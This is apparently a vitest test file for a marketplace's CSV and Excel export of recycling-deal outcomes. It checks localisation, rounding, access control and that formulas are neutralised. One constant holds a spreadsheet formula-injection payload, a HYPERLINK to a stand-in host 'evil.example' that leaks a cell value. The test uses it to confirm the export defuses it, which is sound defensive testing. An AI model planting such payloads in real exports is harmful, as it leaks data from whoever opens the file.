import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import type { DatabaseHandle } from '../../../db/client';
import { companies, rateLimit } from '../../../db/schema/index';
import { createTestDatabase } from '../../helpers/database';
import { callOk, matchedPair, signUpStaff } from '../../helpers/marketplace';
import { createTestApp, type TestApp, testPublicUrl } from '../../helpers/test-app';

let database: DatabaseHandle;
let app: TestApp;
let broker: Awaited<ReturnType<typeof signUpStaff>>;
let deal: Awaited<ReturnType<typeof matchedPair>>;
const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")';
const period = 'from=2033-01-01&to=2033-12-31';

beforeAll(async () => {
  database = await createTestDatabase();
  app = await createTestApp(database);
  broker = await signUpStaff(app, database);
  deal = await matchedPair(app, database);
  await callOk(
    app,
    'brokering.moveStage',
    { matchId: deal.matchId, fromStage: 'suggested', toStage: 'agreed' },
    { cookie: broker.cookie },
  );
  // 2.2 t/yr over 98.6 km: a net with decimals, transport of about 22 kg.
  await callOk(
    app,
    'impact.recordOutcome',
    {
      matchId: deal.matchId,
      quantity: 2.2,
      unit: 't',
      basis: 'per_year',
      startDate: '2033-04-01',
      valueSek: 12_500.5,
      distanceKm: 98.6,
      transportMode: 'truck',
      expectedRevision: 0,
    },
    { cookie: broker.cookie },
  );
  // A company name a spreadsheet would run as a formula (sign-up refuses nothing of the kind).
  await database.db.update(companies).set({ name: hostile }).where(eq(companies.id, deal.seller.company.id));
});
beforeEach(async () => {
  await database.db.delete(rateLimit);
});
afterAll(async () => {
  await app?.close();
  await database?.close();
});

const download = (path: string, cookie?: string, headers: Record<string, string> = {}) =>
  app.inject({
    method: 'GET',
    url: path,
    headers: { host: new URL(testPublicUrl).host, ...(cookie ? { cookie } : {}), ...headers },
  });

test('the Swedish CSV download: BOM, semicolons, decimal commas, Swedish names, rounded, the formula neutralised', async () => {
  const response = await download(`/api/impact/outcomes.csv?${period}&language=sv`, broker.cookie);
  expect(response.statusCode).toBe(200);
  expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(response.headers['content-disposition']).toBe(
    'attachment; filename="sidestream-utfall-2033-01-01-2033-12-31.csv"',
  );
  const bytes = response.rawPayload;
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows = parse(bytes, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(1);
  const row = rows[0] as Record<string, string>;
  expect(row.Kategori).toBe('Aluminiumspån');
  expect(row.Ton).toBe('2,2');
  expect(row['Avstånd (km)']).toBe('98,6');
  expect(row['Transportutsläpp (kg CO2e)']).toBe('22');
  expect(row['Netto undvikna utsläpp (kg CO2e)']).toBe(String(Math.round(2.2 * 8125.12084 - 2.2 * 98.6 * 0.10163)));
  expect(row['Värde (kr)']).toBe('12501');
  expect(row['Farligt avfall']).toBe('nej');
  expect(row.Emissionsfaktor).toBe('Aluminium');
  expect(row['Emissionsfaktor (kg CO2e/t)']).toBe('8125,12084');
  expect(row['Hur ofta']).toBe('per år');
  expect(row['Levererande företag (erbjudande)']).toBe(`'${hostile}`);
  expect(row['Mottagande företag (behov)']).not.toBe('');
});

test('the English CSV download: commas, decimal points, English names; the tRPC answer is the same file', async () => {
  const response = await download(`/api/impact/outcomes.csv?${period}&language=en`, broker.cookie);
  expect(response.statusCode).toBe(200);
  expect(response.rawPayload[0]).not.toBe(0xef);
  const rows = parse(response.body, { columns: true }) as Record<string, string>[];
  expect(rows[0]).toMatchObject({
    Category: 'Aluminium swarf',
    Tonnes: '2.2',
    'Distance (km)': '98.6',
    'Transport emissions (kg CO2e)': '22',
    'Value (SEK)': '12501',
    'Hazardous waste': 'no',
    'How often': 'per year',
    'Supplying company (offer)': `'${hostile}`,
  });
  const viaTrpc = await callOk<{ csv: string }>(
    app,
    'impact.outcomesCsv',
    { from: '2033-01-01', to: '2033-12-31', language: 'en' },
    { cookie: broker.cookie, kind: 'query' },
  );
  expect(viaTrpc.csv).toBe(response.body);
});

test('the .xlsx download has the same table: numbers as numbers, names as text cells, never a formula', async () => {
  const response = await download(`/api/impact/outcomes.xlsx?${period}&language=sv`, broker.cookie);
  expect(response.statusCode).toBe(200);
  expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet('Utfall');
  if (!sheet) throw new Error('no sheet Utfall');
  expect(sheet.rowCount).toBe(2);
  const headers = (sheet.getRow(1).values as unknown[]).slice(1);
  const csv = await download(`/api/impact/outcomes.csv?${period}&language=sv`, broker.cookie);
  const csvHeaders = (parse(csv.rawPayload, { bom: true, delimiter: ';' }) as string[][])[0];
  expect(headers).toEqual(csvHeaders);
  const cell = (header: string) => sheet.getRow(2).getCell(headers.indexOf(header) + 1);
  expect(cell('Ton').value).toBe(2.2);
  expect(cell('Transportutsläpp (kg CO2e)').value).toBe(22);
  expect(cell('Kategori').value).toBe('Aluminiumspån');
  const company = cell('Levererande företag (erbjudande)');
  expect(company.type).toBe(ExcelJS.ValueType.String);
  expect(company.formula).toBeUndefined();
  expect(company.value).toBe(`'${hostile}`);
});

test('downloads are for IUC staff with a valid period; a bad period is a field error, never a 500', async () => {
  expect((await download(`/api/impact/outcomes.csv?${period}`)).statusCode).toBe(401);
  expect((await download(`/api/impact/outcomes.xlsx?${period}`, deal.seller.owner.cookie)).statusCode).toBe(403);
  const backwards = await download('/api/impact/outcomes.csv?from=2033-12-31&to=2033-01-01', broker.cookie);
  expect(backwards.statusCode).toBe(400);
  expect(backwards.json()).toEqual({ error: { message: 'validation.untilBeforeFrom', field: 'to' } });
  const language = await download(`/api/impact/outcomes.csv?${period}&language=de`, broker.cookie);
  expect(language.statusCode).toBe(400);
  expect(language.json().error.field).toBe('language');
  const missing = await download('/api/impact/outcomes.xlsx', broker.cookie);
  expect(missing.statusCode).toBe(400);
  const crossSite = await download(`/api/impact/outcomes.csv?${period}`, broker.cookie, {
    'sec-fetch-site': 'cross-site',
  });
  expect(crossSite.statusCode).toBe(403);
});
